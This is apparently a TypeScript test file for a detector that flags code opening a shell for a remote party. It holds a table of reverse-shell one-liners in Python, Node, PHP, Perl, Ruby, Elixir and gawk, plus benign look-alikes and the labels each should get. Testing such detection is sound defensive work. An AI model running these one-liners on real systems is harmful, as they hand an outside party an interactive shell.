import assert from 'node:assert/strict';
import { awk } from '../../../src/core/code/awk';
import { elixir } from '../../../src/core/code/elixir';
import { javascript } from '../../../src/core/code/javascript';
import { perl } from '../../../src/core/code/perl';
import { php } from '../../../src/core/code/php';
import { python } from '../../../src/core/code/python';
import { ruby } from '../../../src/core/code/ruby';
import type { CodeReader } from '../../../src/core/model/codeReader';
import { read } from './checkCode';

const HANDED = 'nc -e /bin/sh';
const UNTOLD = '?dynamic present';

type Row = readonly [reader: CodeReader, program: string, args: readonly string[], says: string | null];

const dial = 'import socket as s, subprocess as p\nc = s.socket()\nc.connect(("h", 1))\n';

const rows: readonly Row[] = [
  [python, 'python3', ['-c', `${dial}p.Popen(["bash", "-li"], stdin=c)`], HANDED],
  [python, 'python3', ['-c', 'from telnetlib import Telnet as T\nimport os\nT("h")\nos.system("sh")'], HANDED],
  [python, 'python3', ['-c', `${dial}p.call(["/usr/bin/zsh", "--norc", "-i"])`], HANDED],
  [python, 'python3', ['-c', 'import dialling, os\ndialling.to("h")\nos.execv("/bin/sh", ["sh"])'], UNTOLD],
  [python, 'python3', ['-c', 'import pty; pty.spawn("/bin/bash")'], UNTOLD],
  [python, 'python3', ['-c', `${dial}p.run(["bash", "--version"])`], null],
  [python, 'python3', ['-c', `${dial}p.run(["bash", "-c", "ls"])`], null],
  [python, 'python3', ['-c', `${dial}p.run(["shellcheck"])`], null],
  [python, 'python3', ['-c', 'import subprocess as p; p.run(["bash"], input="ls")'], null],
  [python, 'python3', ['-c', 'import socket; print(socket.gethostname())'], null],
  [
    javascript,
    'node',
    ['-e', 'const {connect: c} = require("net"); const {spawn: p} = require("child_process"); c(1, "h"); p("bash")'],
    HANDED,
  ],
  [javascript, 'node', ['-e', 'require("tls").connect(1, "h"); require("child_process").spawn("sh", ["-i"])'], HANDED],
  [javascript, 'node', ['-e', 'require("child_process").spawn("pwsh")'], UNTOLD],
  [javascript, 'node', ['-e', 'require("net").connect(1, "h"); require("child_process").spawn("ls")'], null],
  [php, 'php', ['-r', '$s = socket_create(2, 1, 6); proc_open("sh", [$s], $q);'], HANDED],
  [php, 'php', ['-r', 'fsockopen("h", 1); echo "sh";'], null],
  [perl, 'perl', ['-e', 'use IO::Socket; $s = IO::Socket::INET->new("h:1"); exec "/bin/sh"'], HANDED],
  [perl, 'perl', ['-e', 'exec "ash -i"'], UNTOLD],
  [ruby, 'ruby', ['-e', 's = TCPSocket.new("h", 1); exec "/bin/sh -i <&3 >&3"'], HANDED],
  [elixir, 'elixir', ['-e', ':gen_tcp.connect(~c"h", 1, []); System.shell("sh")'], HANDED],
  [awk, 'gawk', ['BEGIN { s = "/inet/tcp/0/h/1"; s |& getline c; system("sh -i") }'], HANDED],
];

const mark = (found: readonly string[] | null): string | null =>
  [HANDED, UNTOLD].find((one) => found?.includes(one) === true) ?? null;

describe('a shell that code opens for somebody else', () => {
  for (const [reader, program, args, says] of rows) {
    it(`${program} ${args.join(' ')}: ${says ?? 'nothing'}`, async () => {
      assert.equal(mark(await read(reader, program, { args })), says);
    });
  }

  it('leaves a shell that a file of the project opens alone, and tells one that it connects', async () => {
    const files = {
      '/home/dev/shop/own.py': 'import os\nos.system("bash")',
      '/home/dev/shop/far.py': 'import os, socket\nsocket.create_connection(("h", 1))\nos.system("bash")',
    };
    assert.equal(mark(await read(python, 'python3', { args: ['own.py'], files })), null);
    assert.equal(mark(await read(python, 'python3', { args: ['far.py'], files })), HANDED);
  });
});
